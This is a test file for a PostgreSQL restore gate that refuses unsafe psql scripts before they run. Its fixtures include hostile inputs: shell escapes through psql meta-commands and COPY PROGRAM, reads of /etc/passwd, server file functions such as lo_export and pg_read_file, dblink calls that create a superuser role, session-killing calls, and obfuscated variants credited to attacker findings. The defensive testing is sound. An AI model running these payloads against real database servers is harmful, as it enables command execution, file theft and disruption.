/**
 * The restore's rules over psql's reading of a script: what is refused before anything runs (with
 * the line and the command named), what pg_dump writes and passes, and the statement kinds the
 * skip rules use. Real pg_dump and pg_dumpall output is checked against the same rules in
 * __tests__/integration/psql-lexer-equivalence.test.ts.
 */
import {
  lexPsqlScript,
  type PsqlLexerOptions,
  type StatementEvent
} from '../../src/postgres/psql-lexer.js'
import {
  classifyStatement,
  metaCommandKind,
  refusal,
  refusals,
  transactionControl,
  type Refusal
} from '../../src/postgres/psql-script-rules.js'
import { TRICKY_SCRIPTS } from '../support/psql-scripts.js'

const refused = (
  script: string,
  options: PsqlLexerOptions = {}
): Pick<Refusal, 'code' | 'line' | 'command'>[] =>
  refusals(lexPsqlScript(script, options)).map(r => ({
    code: r.code,
    line: r.line,
    command: r.command
  }))

const kind = (sql: string): ReturnType<typeof classifyStatement> => {
  const s = lexPsqlScript(sql).find((e): e is StatementEvent => e.kind === 'statement')
  if (!s) throw new Error(`no statement in ${sql}`)
  return classifyStatement(s)
}

describe('psql script rules: meta-commands', () => {
  it('refuses every meta-command pg_dump never writes, naming the line and the command', () => {
    const script = [
      'SELECT 1;',
      '\\! touch /tmp/pwned',
      "\\o |sh -c 'id'",
      "\\copy t to program 'curl http://x'",
      '\\set x `id`',
      '\\gexec',
      '\\i /etc/passwd',
      'CREATE TABLE b (i int); \\setenv NODE_OPTIONS --require=/tmp/x',
      '\\COPY t FROM stdin',
      '\\.'
    ].join('\n')
    expect(refused(script)).toEqual([
      { code: 'meta-command', line: 2, command: '\\! touch /tmp/pwned' },
      { code: 'meta-command', line: 3, command: "\\o |sh -c 'id'" },
      { code: 'meta-command', line: 4, command: "\\copy t to program 'curl http://x'" },
      { code: 'meta-command', line: 5, command: '\\set x … (a shell command in backquotes)' },
      { code: 'meta-command', line: 6, command: '\\gexec' },
      { code: 'meta-command', line: 7, command: '\\i /etc/passwd' },
      { code: 'meta-command', line: 8, command: '\\setenv NODE_OPTIONS …' },
      { code: 'meta-command', line: 9, command: '\\COPY t FROM stdin' }
    ])
    const [first] = refusals(lexPsqlScript(script))
    expect(first.message).toMatch(
      /^line 2: the psql meta-command "\\! touch \/tmp\/pwned" is not something pg_dump writes/
    )
  })

  it("names \\set's and \\setenv's variable, never its value (attacker a27 A2)", () => {
    const [setenv, set] = refusals(
      lexPsqlScript("\\setenv PGPASSWORD LEAK44\n\\set pw LEAK45\nALTER ROLE app PASSWORD :'pw';\n")
    )
    expect(setenv.message).toMatch(/the psql meta-command "\\setenv PGPASSWORD …"/)
    expect(set.message).toMatch(/the psql meta-command "\\set pw …"/)
    for (const r of [setenv, set]) expect(`${r.message} ${r.command}`).not.toMatch(/LEAK4/)
  })

  it('passes \\restrict KEY and \\unrestrict KEY as pg_dump writes them, and nothing more', () => {
    expect(refused('\\restrict 0rYpT8aBcD\nSELECT 1;\n\\unrestrict 0rYpT8aBcD\n')).toEqual([])
    expect(refused('\\restrict `id`\n')).toEqual([
      { code: 'meta-command', line: 1, command: '\\restrict `id`' }
    ])
    expect(refused("\\restrict 'a b'\n")).toEqual([
      { code: 'meta-command', line: 1, command: "\\restrict 'a b'" }
    ])
    expect(refused('\\restrict k extra\n')).toEqual([
      { code: 'meta-command', line: 1, command: '\\restrict k extra' }
    ])
    expect(refused('\\restrict :KEY\n')).toEqual([
      { code: 'meta-command', line: 1, command: '\\restrict :KEY' }
    ])
    // psql 15.18 evaluates a backquote in \unrestrict's argument even in restricted mode
    expect(refused('\\restrict k\n\\unrestrict `id`\n', { psqlMajor: 15 })).toEqual([
      { code: 'meta-command', line: 2, command: '\\unrestrict `id`' }
    ])
  })

  it('reports \\connect as its own code for the caller to decide', () => {
    const [r] = refusals(lexPsqlScript('\\connect -reuse-previous=on "dbname=\'shop\'"\n'))
    expect(r).toMatchObject({
      code: 'connect',
      line: 1,
      command: '\\connect -reuse-previous=on "dbname=\'shop\'"'
    })
    const [m] = lexPsqlScript('\\c shop\n')
    expect(m.kind === 'metaCommand' && metaCommandKind(m)).toBe('connect')
  })

  it('refuses a meta-command hidden anywhere psql runs one: after a statement, in a COPY line’s rest, after \\\\', () => {
    expect(
      refused('COPY t FROM stdin; \\! id\nrow\n\\.\nSELECT 1; \\restrict k \\\\ \\! id\n').map(
        r => [r.line, r.command]
      )
    ).toEqual([
      [1, '\\! id'],
      [4, '\\! id']
    ])
  })

  it('finds the \\echo commands of every hostile fixture (they stand for \\!)', () => {
    for (const t of TRICKY_SCRIPTS) {
      const marks = (t.script.match(/MARK-\d+/g) ?? []).length
      const seen = refusals(lexPsqlScript(t.script, { clientEncoding: t.clientEncoding })).filter(
        r => /^\\echo .*MARK-\d+/.test(r.command)
      ).length
      // every MARK psql prints is a refused \echo (the quit fixture has none left after \q)
      expect([t.name, seen]).toEqual([t.name, marks])
    }
  })
})

describe('psql script rules: statements', () => {
  it('refuses COPY … PROGRAM in either direction, and binary or unclear COPY', () => {
    expect(
      refused(
        "COPY t FROM PROGRAM 'id';\nCOPY t TO program 'curl x';\ncopy t from stdin with (format binary);\n\\.\nCOPY t;"
      )
    ).toEqual([
      { code: 'copy-program', line: 1, command: "COPY t FROM PROGRAM 'id';" },
      { code: 'copy-program', line: 2, command: "COPY t TO program 'curl x';" },
      { code: 'copy-binary', line: 3, command: 'copy t from stdin with (format binary);' },
      { code: 'copy-unclear', line: 5, command: 'COPY t;' }
    ])
    expect(refused('COPY public.t (a, b) FROM stdin;\n1\t2\n\\.\nCOPY t TO stdout;\n')).toEqual([])
  })

  it('refuses variables psql defines (its own are upper-case) and :{?x}, not slices like a[lo:hi]', () => {
    expect(
      refused(
        "SELECT :'DBNAME';\nSELECT :USER;\nSELECT :{?x};\nSELECT a[lo:hi], (ARRAY[1,2])[1:2] FROM t;"
      )
    ).toEqual([
      { code: 'variable', line: 1, command: "SELECT :'DBNAME';" },
      { code: 'variable', line: 2, command: 'SELECT :USER;' },
      { code: 'variable', line: 3, command: 'SELECT FALSE;' }
    ])
    expect(
      refusals(lexPsqlScript('SELECT :secret;'), { definedVariables: ['secret'] })[0]?.code
    ).toBe('variable')
  })

  it('refuses "\\;" and statements psql joins, but passes a BEGIN ATOMIC body as pg_dump writes it', () => {
    expect(refused('SELECT 1 \\; COMMIT;')).toEqual([
      { code: 'backslash-escape', line: 1, command: 'SELECT 1 ; COMMIT;' }
    ])
    expect(
      refused(
        'CREATE FUNCTION begin() RETURNS int LANGUAGE sql RETURN 1; COMMIT; SELECT 1 AS end;'
      ).map(r => r.code)
    ).toEqual(['joined-statements'])
    // psql joins until an "end": the server would run the COPY (and COMMIT) hidden inside
    expect(
      refused(
        'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1 AS case; END; COPY t FROM stdin; END;'
      ).map(r => r.code)
    ).toEqual(['joined-statements'])
    const pgDump = [
      'CREATE FUNCTION public.f(a integer) RETURNS integer',
      '    LANGUAGE sql',
      '    BEGIN ATOMIC',
      ' SELECT (f.a + 1);',
      ' SELECT',
      '         CASE',
      '             WHEN (f.a > 0) THEN f.a',
      '             ELSE 0',
      '         END AS "case";',
      'END;',
      'CREATE PROCEDURE public.p()',
      '    LANGUAGE sql',
      '    BEGIN ATOMIC',
      ' INSERT INTO public.t (name)',
      "   VALUES ('p'::text);",
      'END;',
      ''
    ].join('\n')
    expect(refused(pgDump)).toEqual([])
  })

  it('classifies transaction control: refuses what ends the transaction, marks pg_dump’s own BEGIN/COMMIT droppable', () => {
    const script = [
      'BEGIN;',
      "SELECT pg_catalog.lo_open('16385', 131072);",
      'COMMIT;',
      'begin transaction isolation level serializable;',
      'START TRANSACTION;',
      'END;',
      'ROLLBACK AND CHAIN;',
      'ABORT;',
      "PREPARE TRANSACTION 'x';",
      "COMMIT PREPARED 'x';",
      "ROLLBACK PREPARED 'x';",
      'SAVEPOINT s;',
      'RELEASE SAVEPOINT s;',
      'ROLLBACK TO s;',
      'ROLLBACK TRANSACTION TO SAVEPOINT s;',
      ''
    ].join('\n')
    expect(
      refusals(lexPsqlScript(script)).map(r => [r.line, r.transaction, r.droppable ?? false])
    ).toEqual([
      [1, 'BEGIN', true],
      [3, 'COMMIT', true],
      [4, 'BEGIN', false],
      [5, 'START TRANSACTION', false],
      [6, 'END', false],
      [7, 'ROLLBACK', false],
      [8, 'ABORT', false],
      [9, 'PREPARE TRANSACTION', false],
      [10, 'COMMIT PREPARED', false],
      [11, 'ROLLBACK PREPARED', false]
    ])
    const [savepoint] = lexPsqlScript('ROLLBACK WORK TO s;') as StatementEvent[]
    expect(transactionControl(savepoint.parts[0])).toEqual({
      statement: 'ROLLBACK TO',
      endsTransaction: false
    })
    expect(refusals(lexPsqlScript('BEGIN;'))[0].message).toMatch(/the restore drops it/)
  })

  it('refuses changes of standard_conforming_strings and client_encoding it cannot follow, passes the ones it models and statements that only name them', () => {
    expect(
      refused(
        [
          'SET standard_conforming_strings = off;',
          "SET client_encoding = 'LATIN1';",
          "SELECT set_config('Standard_Conforming_Strings', 'off', false);",
          'SET LOCAL standard_conforming_strings TO off;',
          'RESET ALL;',
          "SET client_encoding TO 'SJIS';",
          ''
        ].join('\n')
      ).map(r => [r.code, r.line])
    ).toEqual([
      // set_config() is not followed: the gate checks the settings before text it changes;
      // RESET ALL is (the session's reset values, which psql follows)
      ['setting', 4],
      ['encoding', 6]
    ])
  })

  it('refuses literals that depend on standard_conforming_strings only when asked (strict mode)', () => {
    const script = "COMMENT ON TABLE t IS 'C:\\dir\\';\nSELECT 'plain';\n"
    expect(refused(script)).toEqual([])
    expect(
      refusals(lexPsqlScript(script), { refuseAmbiguousLiterals: true }).map(r => [r.code, r.line])
    ).toEqual([['ambiguous-literal', 1]])
  })

  it('refuses a statement psql 17/18 and the server would read different COPY data after', () => {
    // (psql 18 then reads the "\\." line as a command: refused too, after the first)
    expect(refused('COPY s.from FROM stdin;\n\\.\n', { psqlMajor: 18 }).map(r => r.code)).toEqual([
      'copy-mismatch',
      'meta-command'
    ])
    expect(refused('COPY s.from FROM stdin;\n\\.\n', { psqlMajor: 15 })).toEqual([])
  })

  it('refuses input it cannot follow and a custom-format archive', () => {
    expect(refused('SELECT 1;\n\u0000')).toEqual([{ code: 'unsupported', line: 2, command: '' }])
    expect(refusals(lexPsqlScript('PGDMP\u0001'))[0]).toMatchObject({
      code: 'custom-format',
      line: 1
    })
  })

  it('passes what pg_dump writes around the data', () => {
    const script = [
      'SET statement_timeout = 0;',
      "SET client_encoding = 'UTF8';",
      'SET standard_conforming_strings = on;',
      "SELECT pg_catalog.set_config('search_path', '', false);",
      'SET check_function_bodies = false;',
      'SET row_security = off;',
      "SELECT pg_catalog.setval('public.s', 42, true);",
      "SELECT pg_catalog.lo_create('16385');",
      "COMMENT ON TABLE public.t IS 'C:\\dir\\';",
      ''
    ].join('\n')
    expect(refused(script)).toEqual([])
  })
})

describe('psql script rules: server-side file functions (attacker a37 F1)', () => {
  const message = (sql: string, options: PsqlLexerOptions = {}): string | undefined =>
    refusals(lexPsqlScript(sql, options)).find(r => r.code === 'file-function')?.message

  it.each([
    ["SELECT pg_catalog.lo_export(424242,'/tmp/x');", 'pg_catalog.lo_export'],
    ["SELECT pg_catalog.lo_import('/etc/passwd', 525252);", 'pg_catalog.lo_import'],
    [
      "CREATE TABLE x AS SELECT pg_catalog.pg_read_file('/etc/hostname');",
      'pg_catalog.pg_read_file'
    ],
    ["SELECT lo_export(1, '/tmp/x');", 'lo_export'],
    ["SELECT LO_EXPORT(1, '/tmp/x');", 'lo_export'],
    ['SELECT "pg_catalog"."lo_export"(1, \'/tmp/x\');', 'pg_catalog.lo_export'],
    ['SELECT "lo_export" /* c */ (1, \'/tmp/x\');', 'lo_export'],
    ["SELECT pg_catalog . lo_export -- c\n (1, '/tmp/x');", 'pg_catalog.lo_export'],
    ['SELECT U&"lo\\005Fexport"(1, \'/tmp/x\');', 'lo_export'],
    ["SELECT U&\"lo!005Fexport\" UESCAPE '!' (1, '/tmp/x');", 'lo_export'],
    [
      "WITH a AS (SELECT pg_read_binary_file('/etc/passwd') AS b) SELECT 1 FROM a;",
      'pg_read_binary_file'
    ],
    ["SELECT count(*) FROM (SELECT * FROM pg_ls_dir('/')) d;", 'pg_ls_dir'],
    ["INSERT INTO public.t SELECT pg_stat_file('/etc/passwd');", 'pg_stat_file'],
    [
      "INSERT INTO public.t (a) VALUES (pg_catalog.pg_read_file('/etc/hostname'));",
      'pg_catalog.pg_read_file'
    ],
    ['SELECT * FROM pg_ls_logdir();', 'pg_ls_logdir'],
    ['SELECT * FROM pg_ls_waldir();', 'pg_ls_waldir'],
    ['SELECT * FROM pg_ls_tmpdir();', 'pg_ls_tmpdir'],
    ['SELECT * FROM pg_ls_archive_statusdir();', 'pg_ls_archive_statusdir'],
    ["SELECT * FROM pg_ls_replslotdir('s');", 'pg_ls_replslotdir'],
    ['SELECT * FROM pg_ls_summariesdir();', 'pg_ls_summariesdir'],
    ["SELECT pg_file_write('/tmp/x', 'y', false);", 'pg_file_write'],
    ["SELECT pg_catalog.pg_file_rename('/a', '/b');", 'pg_catalog.pg_file_rename'],
    ["SELECT pg_file_unlink('/a');", 'pg_file_unlink'],
    ["SELECT pg_file_sync('/a');", 'pg_file_sync'],
    ['SELECT * FROM pg_logdir_ls();', 'pg_logdir_ls'],
    ['SELECT * FROM pg_ls_logicalmapdir();', 'pg_ls_logicalmapdir'],
    ['SELECT * FROM pg_ls_logicalsnapdir();', 'pg_ls_logicalsnapdir'],
    ["SELECT pg_file_read('/a', 0, 10);", 'pg_file_read'],
    ["SELECT pg_file_length('/a');", 'pg_file_length'],
    ["COPY (SELECT lo_export(1, '/tmp/x')) TO STDOUT;", 'lo_export'],
    ["UPDATE public.t SET a = pg_read_file('/etc/hostname');", 'pg_read_file'],
    ["CALL public.p(pg_read_file('/etc/hostname'));", 'pg_read_file'],
    [
      "CREATE MATERIALIZED VIEW public.m AS SELECT pg_read_file('/etc/hostname') AS f;",
      'pg_read_file'
    ],
    // rows already there: the expression runs for each
    [
      "ALTER TABLE public.t ALTER COLUMN a TYPE text USING pg_read_file('/etc/hostname');",
      'pg_read_file'
    ],
    // a check added is validated on the rows there, a default with a conversion runs
    [
      "ALTER TABLE ONLY public.t ADD CONSTRAINT c CHECK (pg_read_file('/etc/hostname') <> '');",
      'pg_read_file'
    ],
    [
      "ALTER TABLE public.t ALTER COLUMN a SET DEFAULT 'x', ALTER COLUMN b TYPE text USING pg_read_file('/etc/hostname');",
      'pg_read_file'
    ],
    // computed now: a partition's bound, an index's expression (attacker a38)
    [
      "CREATE TABLE public.c PARTITION OF public.p FOR VALUES IN (lo_export(4242, '/tmp/x'));",
      'lo_export'
    ],
    [
      "CREATE TABLE public.c PARTITION OF public.p FOR VALUES IN (U&\"pg_r!0065ad_file\" UESCAPE '!' ('/etc/hostname'));",
      'pg_read_file'
    ],
    ['CREATE INDEX i ON public.t ((pg_read_file(c)));', 'pg_read_file'],
    // a routine bound to an operator, a cast or an aggregate, or altered: runs when used
    [
      'CREATE OPERATOR public.### (FUNCTION = pg_catalog.pg_read_file, RIGHTARG = text);',
      'pg_read_file'
    ],
    [
      'CREATE CAST (text AS bytea) WITH FUNCTION pg_catalog.pg_read_binary_file(text);',
      'pg_read_binary_file'
    ],
    ['CREATE AGGREGATE public.a (text) (SFUNC = lo_import, STYPE = oid);', 'lo_import'],
    ['ALTER FUNCTION pg_catalog.pg_read_file(text) IMMUTABLE;', 'pg_read_file'],
    // with standard_conforming_strings off, '\'' does not end the literal before the call
    ["SET standard_conforming_strings = off;\nSELECT 'a\\'', lo_export(1, '/tmp/x');", 'lo_export'],
    // the configuration files' readers (attacker a38 6), called
    [
      'CREATE TABLE public.s AS SELECT * FROM pg_show_all_file_settings();',
      'pg_show_all_file_settings'
    ],
    [
      'INSERT INTO public.h SELECT * FROM pg_catalog.pg_hba_file_rules();',
      'pg_catalog.pg_hba_file_rules'
    ],
    ['SELECT * FROM pg_ident_file_mappings();', 'pg_ident_file_mappings'],
    ['INSERT INTO public.l VALUES (pg_current_logfile());', 'pg_current_logfile'],
    // a DO block runs its code now, as the outside-transaction rule reads it (b6's residual)
    ["DO $$ BEGIN PERFORM lo_export(1, '/tmp/x'); END $$;", 'lo_export'],
    [
      "DO $body$ BEGIN PERFORM pg_catalog.pg_read_file('/etc/hostname'); END $body$;",
      'pg_catalog.pg_read_file'
    ],
    ["DO E'BEGIN PERFORM lo\\x5fexport(1, \\'/tmp/x\\'); END';", 'lo_export'],
    ["DO U&'BEGIN PERFORM lo\\005fexport(1, ''/tmp/x''); END';", 'lo_export'],
    // a -- comment that a CR ends (attacker a86 F4)
    ["DO $$ BEGIN -- c\rPERFORM lo_export(1, '/tmp/x'); END $$;", 'lo_export'],
    // parts joined across a comment longer than any look-ahead (attacker a85 F1)
    [`DO 'BEGIN PERFORM lo_exp'\n-- ${'x'.repeat(5000)}\n'ort(1, ''/tmp/x''); END';`, 'lo_export']
  ])('refuses %s', (sql, name) => {
    const m = message(sql)
    expect(m).toMatch(
      new RegExp(
        `^line \\d+: ${name.replace(/\./g, '\\.')}\\(\\) reads or writes a file \\(or lists a directory\\) on the database server; pg_dump never writes a call of it\\. Restore only scripts made by pg_dump \\(or remove the statement if you trust it\\) \\(".*"\\); the script is refused before anything runs$`
      )
    )
  })

  it.each([
    ['CREATE TABLE public.leak AS SELECT * FROM pg_hba_file_rules;', 'pg_hba_file_rules'],
    [
      'CREATE TABLE public.leak AS TABLE pg_catalog.pg_file_settings;',
      'pg_catalog.pg_file_settings'
    ],
    ['INSERT INTO public.leak SELECT name, setting FROM pg_file_settings;', 'pg_file_settings'],
    [
      'INSERT INTO public.leak SELECT 1 FROM public.t, pg_ident_file_mappings;',
      'pg_ident_file_mappings'
    ],
    [
      'INSERT INTO public.leak SELECT 1 FROM public.t JOIN "pg_hba_file_rules" ON true;',
      'pg_hba_file_rules'
    ],
    [
      "UPDATE public.t SET a = (SELECT string_agg(sourcefile, ',') FROM PG_CATALOG.PG_FILE_SETTINGS);",
      'pg_catalog.pg_file_settings'
    ],
    [
      'COPY (SELECT * FROM pg_catalog.pg_hba_file_rules) TO STDOUT;',
      'pg_catalog.pg_hba_file_rules'
    ],
    [
      'CREATE MATERIALIZED VIEW public.m AS SELECT * FROM pg_catalog.pg_file_settings;',
      'pg_catalog.pg_file_settings'
    ]
  ])('refuses a query of a configuration file view: %s', (sql, name) => {
    expect(message(sql)).toMatch(
      new RegExp(
        `^line \\d+: ${name.replace(/\./g, '\\.')} reads the database server's configuration files \\(postgresql\\.conf, pg_hba\\.conf or pg_ident\\.conf\\); pg_dump never writes a query of it\\. .*the script is refused before anything runs$`
      )
    )
  })

  it('names the line of the statement', () => {
    expect(refused("SELECT 1;\n\nSELECT pg_catalog.lo_export(424242,'/tmp/x');\n")).toEqual([
      {
        code: 'file-function',
        line: 3,
        command: "SELECT pg_catalog.lo_export(424242,'/tmp/x');"
      }
    ])
  })

  it.each([
    // pg_dump's own large-object and setting calls
    "SELECT pg_catalog.lo_create('16385');",
    "SELECT pg_catalog.lo_open('16385', 131072);",
    "SELECT pg_catalog.lowrite(0, '\\x68656c6c6f');",
    'SELECT pg_catalog.lo_close(0);',
    "SELECT pg_catalog.lo_unlink(oid) FROM pg_catalog.pg_largeobject_metadata WHERE oid = '16385';",
    "SELECT pg_catalog.setval('public.s', 42, true);",
    "SELECT pg_catalog.set_config('search_path', '', false);",
    "SELECT pg_catalog.binary_upgrade_set_next_pg_type_oid('16386'::pg_catalog.oid);",
    // named so, not called
    'CREATE TABLE public.lo_export (lo_export integer, pg_read_file text);',
    'SELECT lo_export, pg_read_file FROM public.lo_export;',
    'COPY public.lo_export (lo_export, pg_read_file) FROM stdin;\n1\tx\n\\.',
    'INSERT INTO public.lo_export (lo_export) VALUES (1);',
    'INSERT INTO public."lo_export" (a) VALUES (1);',
    'ALTER TABLE ONLY public.t ADD CONSTRAINT t_fk FOREIGN KEY (a) REFERENCES public.lo_export(lo_export);',
    // in a string, a dollar-quoted body or a comment: code run later, or nothing
    "SELECT 'lo_export(1, ''/tmp/x'')';",
    "SELECT E'\\' lo_export(1, ''/tmp/x'')';",
    "DO $$ BEGIN RAISE NOTICE 'lo_export(1, ''/tmp/x'')'; END $$;",
    "DO $body$ BEGIN PERFORM 1; -- pg_catalog.pg_read_file('/etc/hostname')\nEND $body$;",
    "CREATE FUNCTION public.f() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/etc/hostname') $$;",
    "SELECT 1; -- lo_export(1, '/tmp/x')",
    "SELECT /* lo_export(1, '/tmp/x') */ 1;",
    // definitions pg_dump writes: privileges of a system function, a view, a routine's body
    'GRANT ALL ON FUNCTION pg_catalog.pg_read_file(text) TO monitor;',
    'REVOKE ALL ON FUNCTION pg_catalog.lo_export(oid, text) FROM PUBLIC;',
    "COMMENT ON FUNCTION public.pg_ls_dir(text) IS 'x';",
    'ALTER FUNCTION public.pg_ls_dir(text) OWNER TO app;',
    // pg_dump's NOT VALID checks: no row is checked now
    "ALTER TABLE public.t\n    ADD CONSTRAINT ck CHECK (((g IS NULL) OR (length(pg_read_file('/etc/hostname'::text)) > 0))) NOT VALID;",
    "ALTER DOMAIN public.dd\n    ADD CONSTRAINT dd_check CHECK ((length(pg_read_file('/etc/hostname'::text)) > 0)) NOT VALID;",
    // a partitioned table's key, a column's default: nothing computed now
    "CREATE TABLE public.p (a text DEFAULT pg_read_file('/etc/hostname')) PARTITION BY LIST (a);",
    // pg_dump's separate column default: set, not run
    "ALTER TABLE ONLY public.t ALTER COLUMN f SET DEFAULT pg_catalog.pg_read_file('/etc/hostname'::text);",
    'DROP FUNCTION public.pg_ls_dir(text);',
    'CREATE VIEW public.logs AS\n SELECT pg_ls_logdir.name\n   FROM pg_ls_logdir() pg_ls_logdir(name, size, modification);',
    "CREATE MATERIALIZED VIEW public.m AS\n SELECT pg_read_file('/etc/hostname'::text) AS f\n  WITH NO DATA;",
    "CREATE FUNCTION public.g() RETURNS text LANGUAGE sql\n    BEGIN ATOMIC\n SELECT pg_read_file('/etc/hostname'::text) AS pg_read_file;\nEND;",
    // the backup's own tables and columns named like the configuration files' views
    'CREATE TABLE public.pg_file_settings (pg_hba_file_rules text, pg_ident_file_mappings text);',
    'SELECT pg_hba_file_rules, pg_ident_file_mappings FROM public.pg_file_settings;',
    'INSERT INTO public.t (a, pg_file_settings) VALUES (1, 2);',
    'COPY public.pg_hba_file_rules (pg_file_settings) FROM stdin;\nx\n\\.',
    'ALTER TABLE ONLY public.pg_hba_file_rules ADD CONSTRAINT k PRIMARY KEY (id);',
    'GRANT SELECT ON TABLE pg_catalog.pg_hba_file_rules TO monitor;',
    'CREATE VIEW public.v AS\n SELECT pg_file_settings.name\n   FROM pg_file_settings;'
  ])('passes %s', sql => {
    expect(message(sql)).toBeUndefined()
    expect(refused(sql)).toEqual([])
  })
})

describe('psql script rules: calls that act outside the restore transaction (attacker a83 F1)', () => {
  const found = (sql: string): Refusal | undefined =>
    refusals(lexPsqlScript(sql)).find(r => r.code === 'outside-transaction')

  it.each([
    // dblink: a connection of its own, whose statements commit by themselves
    [
      "SELECT public.dblink_exec('dbname=tgt', 'CREATE TABLE public.escaped(x int)');",
      'public.dblink_exec',
      /opens a connection of its own \(dblink\)/
    ],
    ["SELECT dblink_connect('c', 'dbname=postgres');", 'dblink_connect', /dblink/],
    ["SELECT dblink_connect_u('c', 'dbname=postgres');", 'dblink_connect_u', /dblink/],
    [
      "SELECT * FROM extensions.dblink('dbname=postgres', 'SELECT 1') AS r(x int);",
      'extensions.dblink',
      /dblink/
    ],
    ["SELECT dblink_send_query('c', 'DELETE FROM t');", 'dblink_send_query', /dblink/],
    ["SELECT \"DBLINK_EXEC\"('dbname=postgres', 'DROP TABLE t');", 'dblink_exec', /dblink/],
    ["SELECT U&\"dblink\\005Fexec\"('dbname=x', 'y');", 'dblink_exec', /dblink/],
    [
      "INSERT INTO public.t SELECT x FROM dblink('dbname=x', 'SELECT 1') AS r(x int);",
      'dblink',
      /dblink/
    ],
    [
      "CREATE TABLE public.c AS SELECT public.dblink_exec('dbname=x', 'CREATE ROLE r SUPERUSER') AS r;",
      'public.dblink_exec',
      /dblink/
    ],
    // through ALTER SYSTEM in the other session (the statement itself is the gate's own refusal)
    [
      "SELECT public.dblink_exec('dbname=postgres', 'ALTER SYSTEM SET log_statement = ''none''');",
      'public.dblink_exec',
      /as a superuser dblink connects without a password/
    ],
    // a routine bound or altered: runs where it is used (an index, an operator)
    [
      'CREATE OPERATOR public.### (FUNCTION = public.dblink_exec, LEFTARG = text, RIGHTARG = text);',
      'dblink_exec',
      /dblink/
    ],
    ['ALTER FUNCTION public.dblink_exec(text, text) IMMUTABLE;', 'dblink_exec', /dblink/],
    // other sessions
    [
      'SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_catalog.pg_stat_activity WHERE usename = current_user AND pid <> pg_catalog.pg_backend_pid();',
      'pg_catalog.pg_terminate_backend',
      /ends or interrupts another session/
    ],
    [
      'SELECT pg_cancel_backend(pid) FROM pg_stat_activity;',
      'pg_cancel_backend',
      /another session/
    ],
    // the whole server
    ['SELECT pg_catalog.pg_reload_conf();', 'pg_catalog.pg_reload_conf', /the whole server/],
    ['SELECT pg_rotate_logfile();', 'pg_rotate_logfile', /the whole server/],
    ['SELECT pg_promote(true, 60);', 'pg_promote', /the whole server/],
    ['SELECT pg_switch_wal();', 'pg_switch_wal', /the whole server/],
    [
      "SELECT * FROM pg_create_physical_replication_slot('keep_wal_forever');",
      'pg_create_physical_replication_slot',
      /the whole server/
    ],
    ['SELECT pg_stat_reset();', 'pg_stat_reset', /the whole server/],
    [
      "SELECT pg_stat_reset_single_table_counters('public.t'::regclass);",
      'pg_stat_reset_single_table_counters',
      /the whole server/
    ],
    // a DO block runs its code now
    [
      "DO $$ BEGIN PERFORM public.dblink_exec('dbname=x', 'CREATE TABLE t (x int)'); END $$;",
      'public.dblink_exec',
      /dblink/
    ],
    [
      "DO LANGUAGE plpgsql 'BEGIN PERFORM pg_catalog.pg_reload_conf(); END';",
      'pg_catalog.pg_reload_conf',
      /the whole server/
    ],
    [
      "DO $body$ DECLARE r int; BEGIN SELECT x INTO r FROM dblink('dbname=y', 'SELECT 1') AS d(x int); END $body$ LANGUAGE plpgsql;",
      'dblink',
      /dblink/
    ],
    [
      'CREATE INDEX i ON public.t ((pg_terminate_backend(1)));',
      'pg_terminate_backend',
      /another session/
    ],
    // the DO's string read as the server reads it (attacker a84 F1): U&'…', E'…' escapes,
    // standard_conforming_strings off, continued on the next line, a DO in a DO's code
    ...[
      "DO U&'BEGIN PERFORM pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = ''victim''; END';",
      "DO U&'BEGIN PERFORM pg_\\0074erminate\\005fbackend(1); END';",
      "DO U&'BEGIN PERFORM pg_!0074erminate_backend(1); END' UESCAPE '!';",
      "DO E'BEGIN PERFORM pg_terminate\\x5fbackend(pid) FROM pg_stat_activity WHERE application_name = \\'victim\\'; END';",
      "DO E'BEGIN PERFORM pg_terminate\\137backend(1); END';",
      "DO E'BEGIN PERFORM pg_terminate\\u005fbackend(1); END';",
      "DO LANGUAGE plpgsql E'BEGIN PERFORM pg_terminate\\U0000005fbackend(1); END';",
      "SET standard_conforming_strings = off;\nDO 'BEGIN PERFORM pg\\_terminate\\_backend(pid) FROM pg_stat_activity WHERE application_name = ''victim''; END';",
      "DO 'BEGIN PERFORM pg_termi'\n'nate_backend(1); END';",
      "DO 'BEGIN PERFORM pg_termi' -- a comment\n'nate_backend(1); END';",
      "DO $a$ BEGIN DO U&'BEGIN PERFORM pg_\\0074erminate_backend(1); END'; END $a$;",
      "DO $a$ BEGIN IF true THEN DO $b$ BEGIN DO E'BEGIN PERFORM pg_terminate\\x5fbackend(1); END'; END $b$; END IF; END $a$;",
      // PL/pgSQL reads its code with the session's standard_conforming_strings: off, '\' x '
      // is one literal and the call after it is code
      "SET standard_conforming_strings = off;\nDO $a$ BEGIN PERFORM '\\' x '; PERFORM pg_terminate_backend(1); /*'; */ END $a$;"
    ].map((sql): [string, string, RegExp] => [
      sql,
      'pg_terminate_backend',
      /ends or interrupts another session/
    ])
  ])('refuses %s', (sql, call, why) => {
    const r = found(sql)
    expect(r?.message).toMatch(why)
    expect(r?.message).toMatch(
      new RegExp(
        `^line \\d+: ${call.replace(/\./g, '\\.')}\\(\\) .*outside the one transaction the restore runs in: no rollback undoes it.*pg_dump never writes a call of it \\(psql by hand would run it\\)\\. .*the script is refused before anything runs$`
      )
    )
  })

  it('names the line and the statement', () => {
    expect(
      refused(
        "SET row_security = off;\nCREATE EXTENSION IF NOT EXISTS dblink WITH SCHEMA public;\nSELECT public.dblink_exec('dbname=tgt', 'CREATE TABLE public.escaped(x int)');\n"
      )
    ).toEqual([
      {
        code: 'outside-transaction',
        line: 3,
        command: "SELECT public.dblink_exec('dbname=tgt', 'CREATE TABLE public.escaped(x int)');"
      }
    ])
  })

  it.each([
    // what pg_dump writes for a database with dblink or postgres_fdw: defined, nothing called
    'CREATE EXTENSION IF NOT EXISTS dblink WITH SCHEMA public;',
    "COMMENT ON EXTENSION dblink IS 'connect to other PostgreSQL databases from within a database';",
    'CREATE EXTENSION IF NOT EXISTS postgres_fdw WITH SCHEMA public;',
    "CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db', dbname 'app');",
    "CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'app');",
    'GRANT ALL ON FUNCTION public.dblink_exec(text) TO app;',
    'REVOKE ALL ON FUNCTION pg_catalog.pg_terminate_backend(integer, bigint) FROM PUBLIC;',
    // a body: runs when called, if ever (the superuser warning names it)
